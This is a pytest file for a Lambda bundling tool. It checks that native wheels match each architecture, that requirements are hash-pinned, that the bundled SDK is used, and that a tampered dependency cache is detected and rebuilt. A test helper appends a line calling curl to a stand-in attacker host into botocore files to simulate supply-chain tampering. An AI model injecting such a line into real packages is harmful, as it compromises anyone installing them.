"""The Lambda asset: bundled without Docker, per architecture, reproducible, cached, and
carrying its own SDK, installed from hash-pinned wheels."""

import gzip
import json
import re
import shutil
import subprocess
import textwrap
from pathlib import Path

import pytest
from support.lambda_runtime import find_python_313, runtime_sdk_decoy
from support.synth import REPO, asset_hashes_without_bundling, synth_with_bundling

from imported_key_cdk import bundling, handler

pytestmark = pytest.mark.slow

ELF_MACHINES = {"arm64": 183, "x86_64": 62}  # e_machine: EM_AARCH64, EM_X86_64
SOURCE = REPO / "lambda" / "imported_key_handler"
REQUIREMENTS = SOURCE / bundling.REQUIREMENTS_FILE
PINS = dict(re.findall(r"^([A-Za-z0-9_.-]+)==(\S+) \\$", REQUIREMENTS.read_text(), re.MULTILINE))
# What botocore reads beside the service models when it makes a client.
BOTOCORE_FILES = {
    "endpoints.json",
    "partitions.json",
    "sdk-default-configuration.json",
    "_retry.json",
}
PYTHON_313 = find_python_313()


def elf_machine(path: Path) -> int:
    header = path.read_bytes()[:20]
    assert header[:4] == b"\x7fELF", f"{path} is not an ELF file"
    return int.from_bytes(header[18:20], "little")


def test_bundle_holds_handler_and_native_dependencies_for_its_architecture(
    lambda_bundles: dict[str, Path],
) -> None:
    assert set(lambda_bundles) == {"arm64", "x86_64"}
    for arch, bundle in lambda_bundles.items():
        assert (bundle / "imported_key_handler" / "entry.py").is_file()
        assert (bundle / "crhelper" / "resource_helper.py").is_file()
        native = sorted(bundle.rglob("*.so"))
        assert native, f"no native code in the {arch} bundle"
        assert {elf_machine(so) for so in native} == {ELF_MACHINES[arch]}
        cffi_backend = list(bundle.glob("_cffi_backend.cpython-313-*-linux-gnu.so"))
        assert len(cffi_backend) == 1, "cffi must be built for Python 3.13"
        assert not list(bundle.rglob("__pycache__"))
        assert not list(bundle.rglob("*.pyc"))
        assert (bundle / "cryptography").is_dir()


def test_asset_hash_changes_with_architecture(lambda_bundles: dict[str, Path]) -> None:
    hashes = {path.name for path in lambda_bundles.values()}
    assert len(hashes) == 2


def test_asset_hash_ignores_pycache(tmp_path: Path) -> None:
    _, before = synth_with_bundling(tmp_path / "one")
    cache_dir = REPO / "lambda" / "imported_key_handler" / "__pycache__"
    cache_dir.mkdir(exist_ok=True)
    stray = cache_dir / "stray.cpython-399.pyc"
    stray.write_bytes(b"not from this interpreter")
    try:
        _, after = synth_with_bundling(tmp_path / "two")
    finally:
        stray.unlink()
    assert {a: Path(p).name for a, p in before.items()} == {
        a: Path(p).name for a, p in after.items()
    }


def test_second_synth_does_not_run_pip(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(bundling.CACHE_ENV, str(tmp_path / "cache"))
    pip_runs = _count_pip_runs(monkeypatch)
    synth_with_bundling(tmp_path / "first")
    assert len(pip_runs) == 2  # one per architecture
    platforms = sorted(run[run.index("--platform") + 1] for run in pip_runs)
    assert platforms == ["manylinux2014_aarch64", "manylinux2014_x86_64"]
    synth_with_bundling(tmp_path / "second")
    assert len(pip_runs) == 2


def test_pip_failure_is_a_clear_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(bundling.CACHE_ENV, str(tmp_path / "cache"))
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("no-such-package-imported-key-cdk==0.0.1\n")
    with pytest.raises(RuntimeError, match=r"pip could not install .* for Python 3\.13 on arm64"):
        bundling.cached_dependencies(requirements, "3.13", "arm64")
    assert not list((tmp_path / "cache" / "dependencies").iterdir())


def requirement_blocks() -> dict[str, str]:
    """Each requirement in requirements.txt with its continuation lines, by name."""
    blocks: dict[str, str] = {}
    name = ""
    for line in REQUIREMENTS.read_text().splitlines():
        if re.match(r"[A-Za-z]", line):
            name = line.split("==")[0]
        if name and not line.lstrip().startswith("#"):
            blocks[name] = blocks.get(name, "") + line + "\n"
    return blocks


def test_every_requirement_is_pinned_with_hashes() -> None:
    blocks = requirement_blocks()
    assert set(blocks) == set(PINS)
    assert {"boto3", "botocore", "crhelper", "cryptography", "cffi", "pycparser"} <= set(PINS)
    hashes = {name: re.findall(r"--hash=sha256:[0-9a-f]{64}\b", b) for name, b in blocks.items()}
    assert all(hashes.values()), hashes
    # Native wheels: one per Python version and machine (cffi), one per machine and manylinux
    # tag (cryptography's abi3 wheels serve every Python version).
    assert len(hashes["cffi"]) == 4
    assert len(hashes["cryptography"]) == 6
    assert "--require-hashes" in bundling.pip_command(REQUIREMENTS, Path("t"), "3.13", "arm64")


def test_bundle_carries_every_pinned_package_and_only_the_models_it_uses(
    lambda_bundles: dict[str, Path],
) -> None:
    for bundle in lambda_bundles.values():
        installed = {p.name for p in bundle.glob("*.dist-info")}
        assert installed == {f"{name.replace('-', '_')}-{v}.dist-info" for name, v in PINS.items()}
        models = bundle / "botocore" / "data"
        assert {p.name for p in models.iterdir() if p.is_dir()} == set(bundling.BOTOCORE_SERVICES)
        assert {p.name for p in models.iterdir() if p.is_file()} >= BOTOCORE_FILES
        for dropped in (
            *bundling.DROPPED,
            bundling.MANIFEST_FILE,
            "imported_key_handler/requirements.in",
        ):
            assert not (bundle / dropped).exists(), dropped


def test_every_client_the_bundled_code_makes_has_its_model(
    lambda_bundles: dict[str, Path],
) -> None:
    bundle = lambda_bundles["x86_64"]
    sources = [
        *(bundle / "imported_key_handler").rglob("*.py"),
        *(bundle / "crhelper").rglob("*.py"),
    ]
    pattern = re.compile(r"""\bclient\(\s*['"]([a-z0-9-]+)['"]""")
    services = {name for path in sources for name in pattern.findall(path.read_text())}
    assert {"kms", "secretsmanager", "lambda", "events", "logs"} <= services
    assert services <= set(bundling.BOTOCORE_SERVICES)


def test_bundled_botocore_knows_the_2025_kms_fields(lambda_bundles: dict[str, Path]) -> None:
    for bundle in lambda_bundles.values():
        (model,) = (bundle / "botocore" / "data" / "kms").glob("*/service-2.json.gz")
        shapes = json.loads(gzip.decompress(model.read_bytes()))["shapes"]
        assert "IncludeKeyMaterial" in shapes["ListKeyRotationsRequest"]["members"]
        assert {"ImportType", "KeyMaterialId"} <= set(shapes["ImportKeyMaterialRequest"]["members"])
        assert "CurrentKeyMaterialId" in shapes["KeyMetadata"]["members"]


PROBE = textwrap.dedent(
    """
    import json, os, sys
    bundle, decoy, services = sys.argv[1], sys.argv[2], sys.argv[3].split(",")
    sys.path[0:0] = [bundle, decoy]  # the runtime's SDK comes after the bundle, as in Lambda
    import imported_key_handler.entry
    from imported_key_handler import cfn, clients
    import boto3, botocore, cryptography
    helper = cfn.build_helper()  # crhelper makes its own clients here, and keeps any failure
    assert helper._init_failed is None, helper._init_failed
    kms = clients.kms_client()
    clients.secretsmanager_client()
    for service in services:
        boto3.client(service, region_name=os.environ["AWS_REGION"])
    operation = kms.meta.service_model.operation_model("ListKeyRotations")
    print(json.dumps({
        "files": [m.__file__ for m in (boto3, botocore, cryptography)],
        "botocore": botocore.__version__,
        "list_key_rotations": sorted(operation.input_shape.members),
    }))
    """
)


@pytest.mark.skipif(PYTHON_313 is None, reason="python3.13 is not on this machine")
def test_bundle_runs_on_its_own_sdk_not_the_runtimes(
    lambda_bundles: dict[str, Path], tmp_path: Path
) -> None:
    assert PYTHON_313 is not None
    bundle = lambda_bundles["x86_64"]
    probe = subprocess.run(
        [PYTHON_313, "-I", "-B", "-c", PROBE, str(bundle), str(runtime_sdk_decoy(tmp_path)),
         ",".join(bundling.BOTOCORE_SERVICES)],
        env={"PATH": "/usr/bin:/bin", "AWS_REGION": "us-east-1"},
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert probe.returncode == 0, probe.stderr
    loaded = json.loads(probe.stdout)
    assert all(path.startswith(f"{bundle}/") for path in loaded["files"]), loaded["files"]
    assert loaded["botocore"] == PINS["botocore"]
    assert "IncludeKeyMaterial" in loaded["list_key_rotations"]


def _cache_copy(cache: Path) -> Path:
    """This session's cached x86_64 dependencies, copied under ``cache`` (no pip run)."""
    built = bundling.cached_dependencies(REQUIREMENTS, "3.13", "x86_64")
    copy = cache / "dependencies" / built.name
    shutil.copytree(built, copy)
    return copy


def _count_pip_runs(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    pip_runs: list[list[str]] = []
    real_run = subprocess.run

    def counting_run(command: list[str], **kwargs: object) -> object:
        if command[1:4] == ["-m", "pip", "install"]:
            pip_runs.append(command)
        return real_run(command, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(bundling.subprocess, "run", counting_run)
    return pip_runs


def _tamper(cached: Path, tamper: str, path: str) -> None:
    if tamper == "remove":
        (cached / path).unlink()
    else:
        with (cached / path).open("a") as tampered:
            tampered.write("\nimport os; os.system('curl attacker.invalid')\n")


@pytest.mark.parametrize(
    ("tamper", "path"),
    [
        ("change", "botocore/__init__.py"),
        ("add", "sitecustomize.py"),
        ("remove", "botocore/data/_retry.json"),
    ],
)
def test_every_kind_of_tampering_is_found_in_the_copy(
    tmp_path: Path, tamper: str, path: str
) -> None:
    """What bundle_dependencies checks before it ships a copy (a full rebuild of the first
    kind follows below; the others take the same path once found)."""
    cached = _cache_copy(tmp_path / "cache")
    copy = tmp_path / "copy"
    shutil.copytree(cached, copy, ignore=bundling.IGNORED)
    assert bundling.changed_files(cached, copy) == []
    _tamper(copy, tamper, path)
    assert bundling.changed_files(cached, copy) == [path]


@pytest.mark.parametrize(
    ("tamper", "path"),
    [
        ("change", "botocore/__init__.py"),
        ("remove", bundling.MANIFEST_FILE),
    ],
)
def test_a_tampered_cache_is_rebuilt_not_bundled(
    lambda_bundles: dict[str, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    tamper: str,
    path: str,
) -> None:
    cached = _cache_copy(tmp_path / "cache")
    monkeypatch.setenv(bundling.CACHE_ENV, str(tmp_path / "cache"))
    pip_runs = _count_pip_runs(monkeypatch)
    output = tmp_path / "out"
    output.mkdir()
    bundling.bundle_dependencies(output, REQUIREMENTS, "3.13", "x86_64")
    assert pip_runs == []  # an intact cache is used as it is
    _tamper(cached, tamper, path)
    output = tmp_path / "again"
    output.mkdir()
    bundling.bundle_dependencies(output, REQUIREMENTS, "3.13", "x86_64")
    assert len(pip_runs) == 1
    if path != bundling.MANIFEST_FILE:  # without a manifest, the cache is simply not used
        assert "changed since they were installed" in capfd.readouterr().err
    assert bundling.changed_files(cached, output) == []
    reference = lambda_bundles["x86_64"]
    if tamper == "add":
        assert not (output / path).exists()
    elif path != bundling.MANIFEST_FILE:
        assert (output / path).read_bytes() == (reference / path).read_bytes()
    assert "attacker" not in (cached / "botocore" / "__init__.py").read_text()


def _handler_copy(tmp_path: Path) -> Path:
    copy = tmp_path / "imported_key_handler"
    shutil.copytree(SOURCE, copy, ignore=bundling.IGNORED)
    return copy


def test_asset_hash_covers_the_pins_and_the_recipe(
    lambda_bundles: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = _handler_copy(tmp_path)
    monkeypatch.setattr(handler, "handler_source_dir", lambda: copy)
    unchanged = asset_hashes_without_bundling(tmp_path / "unchanged")
    # The hash a synth gets without bundling is the one the bundled asset carries.
    assert {arch: f"asset.{h}" for arch, h in unchanged.items()} == {
        arch: path.name for arch, path in lambda_bundles.items()
    }
    requirements = copy / bundling.REQUIREMENTS_FILE
    text = requirements.read_text()
    requirements.write_text(text.replace("six==1.17.0", "six==1.16.0"))
    new_pin = asset_hashes_without_bundling(tmp_path / "new-pin")
    requirements.write_text(text)
    monkeypatch.setattr(bundling, "BOTOCORE_SERVICES", ("kms", "secretsmanager"))
    new_recipe = asset_hashes_without_bundling(tmp_path / "new-recipe")
    for arch in unchanged:
        assert len({unchanged[arch], new_pin[arch], new_recipe[arch]}) == 3
